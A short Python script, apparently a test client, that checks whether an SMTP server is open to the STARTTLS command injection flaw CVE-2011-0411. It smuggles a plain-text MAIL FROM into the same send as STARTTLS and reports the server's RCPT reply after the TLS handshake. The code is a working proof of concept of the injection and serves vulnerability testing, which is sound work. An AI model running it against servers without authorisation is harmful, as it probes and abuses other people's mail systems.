# An SMTP client that tries the STARTTLS command injection (CVE-2011-0411), the tutorial's way (a
# plain socket, then the ssl module): after the greeting and EHLO it sends
# "STARTTLS\r\nMAIL FROM:<injected@example.com>\r\n" in ONE send, reads the 220, does the TLS
# handshake (verified against CAFILE for localhost), says EHLO again, then RCPT TO. A server that
# kept the plain-text MAIL from before the handshake answers RCPT with 250; one that threw it
# away, as RFC 3207 says, with 503. Usage: HOST PORT CAFILE. Prints "starttls REPLY",
# "tls VERSION", "rcpt REPLY".
import socket
import ssl
import sys

host, port, cafile = sys.argv[1], int(sys.argv[2]), sys.argv[3]
buf = b''


def reply(sock):
    """One whole reply (every line of a multi-line one); its last line."""
    global buf
    while True:
        while b'\r\n' not in buf:
            data = sock.recv(4096)
            if not data:
                raise SystemExit('server closed')
            buf += data
        line, buf = buf.split(b'\r\n', 1)
        if len(line) < 4 or line[3:4] != b'-':
            return line.decode('utf-8', 'replace')


s = socket.create_connection((host, port), timeout=30)
reply(s)
s.sendall(b'EHLO me\r\n')
reply(s)
s.sendall(b'STARTTLS\r\nMAIL FROM:<injected@example.com>\r\n')
print('starttls', reply(s), flush=True)
buf = b''    # this client's own buffer holds nothing more: the server answered STARTTLS only
context = ssl.create_default_context(cafile=cafile)
t = context.wrap_socket(s, server_hostname=host)
print('tls', t.version(), flush=True)
t.sendall(b'EHLO me\r\n')
reply(t)
t.sendall(b'RCPT TO:<b@example.com>\r\n')
print('rcpt', reply(t), flush=True)
t.sendall(b'QUIT\r\n')
reply(t)
t.close()
